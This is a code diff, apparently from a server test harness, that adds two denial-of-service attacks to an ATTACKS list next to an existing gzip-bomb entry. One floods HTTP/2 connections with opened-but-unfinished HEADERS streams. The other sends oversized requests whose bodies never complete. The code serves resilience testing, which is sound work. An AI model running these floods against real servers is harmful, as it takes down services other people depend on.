@@ -196,6 +196,42 @@ export const ATTACKS: Attack[] = [
     },
   },
   {
+    name: "calls that are opened by the ten thousand and never made",
+    async run(port) {
+      await together(4, async () => {
+        const connection = await Connection.open(port);
+        for (let i = 0; i < 100_000 && !connection.isClosed;) {
+          const parts: Uint8Array[] = [];
+          for (const end = i + 1000; i < end; i++) {
+            parts.push(frame(FrameType.HEADERS, Flag.END_HEADERS, connection.takeId(), REQUEST_BLOCK));
+          }
+          connection.send(...parts);
+          await connection.flushed();
+        }
+        await delay(500);
+        connection.close();
+      });
+    },
+  },
+  {
+    name: "requests of which the last byte never comes",
+    async run(port) {
+      const part = concatBytes([
+        Uint8Array.of(0),
+        uint32(1_500_000),
+        Uint8Array.of(10, 220, 198, 91),
+        new Uint8Array(1_400_000),
+      ]);
+      await together(8, async () => {
+        const connection = await Connection.open(port);
+        for (let i = 0; i < 100; i++) connection.open(RANGE_PATH).sendBytes(part, false);
+        await Promise.race([connection.flushed(), delay(3000)]);
+        await delay(500);
+        connection.close();
+      });
+    },
+  },
+  {
     name: "gzip bombs",
     async run(port) {
       const bomb = gzipSync(new Uint8Array(200 << 20), { level: 9 });
